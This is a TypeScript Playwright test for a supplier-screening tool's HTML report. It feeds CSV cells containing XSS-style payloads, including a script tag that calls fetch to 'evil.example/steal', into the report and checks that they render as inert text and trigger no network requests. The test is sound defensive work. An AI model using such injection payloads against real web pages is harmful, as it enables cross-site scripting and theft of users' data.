import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describeEvidence, entities } from '@nkscreen/dataset';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../../../scripts/launch-chromium.mjs';
import { toCsv } from './csv-fixtures.js';
import { createTempDir, runBin, watchlistCsv } from './run-bin.js';

const hostile =
  '<script>fetch("https://evil.example/steal")</script><img src="https://evil.example/pixel.png">';
const listed = entities[0];

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
});

describe('the HTML report in Chromium', () => {
  it('shows the summary and the hits grouped by entity, renders hostile cells as text, and loads nothing', async () => {
    const dir = createTempDir();
    const input = join(dir, 'suppliers.csv');
    const rows = [
      ['Supplier Name', 'Country', 'Notes'],
      ['Shadow Harbour Trading Co., Ltd.', 'Russia', hostile],
      ['Pegatron Corporation', 'Taiwan', ''],
      [
        'SHADOW HARBOUR TRADING CO',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        'second hit',
      ],
      ['Blue Lantern Manpower Corp', 'China', '"quoted" & <b>bold</b>'],
      ...(listed ? [[listed.name, listed.countries[0] ?? '', 'planted dataset name']] : []),
    ];
    writeFileSync(input, toCsv(rows));
    const report = join(dir, 'report.html');
    const run = await runBin(['screen', input, '--list', watchlistCsv, '--out', report]);
    expect(run.status, run.stderr).toBe(0);

    const page = await browser.newPage();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.goto(pathToFileURL(report).href);

    expect(await page.getByTestId('rows-read').textContent()).toBe(`${rows.length - 1}rows read`);
    const groups = await page.getByTestId('entity').evaluateAll((sections) =>
      sections.map((section) => ({
        name: section.querySelector('[data-testid="entity-name"]')?.textContent,
        lines: [...section.querySelectorAll('[data-testid="hit"]')].map((row) =>
          Number(row.getAttribute('data-line')),
        ),
        values: [...section.querySelectorAll('[data-testid="hit-value"]')].map(
          (cell) => cell.textContent,
        ),
      })),
    );
    expect(groups).toContainEqual({
      name: 'Shadow Harbour Trading Company',
      lines: [2, 4],
      values: ['Shadow Harbour Trading Co., Ltd.', 'SHADOW HARBOUR TRADING CO'],
    });
    expect(groups).toContainEqual({
      name: 'Blue Lantern Manpower Corporation',
      lines: [5],
      values: ['Blue Lantern Manpower Corp'],
    });
    if (listed) {
      expect(groups).toContainEqual({ name: listed.name, lines: [6], values: [listed.name] });
      const evidence = await page
        .locator(`[data-entity-id="${listed.id}"] [data-testid="evidence"]`)
        .textContent();
      expect(evidence).toBe(describeEvidence(listed));
    }

    // The hostile cells are text on the page, not elements.
    expect(await page.locator('script, img, link, iframe, td b').count()).toBe(0);
    await page.locator('details summary', { hasText: 'whole row' }).first().click();
    await expect(page.getByText(hostile).first().isVisible()).resolves.toBe(true);

    expect(requests).toEqual([pathToFileURL(report).href]);
    await page.close();
  });
});
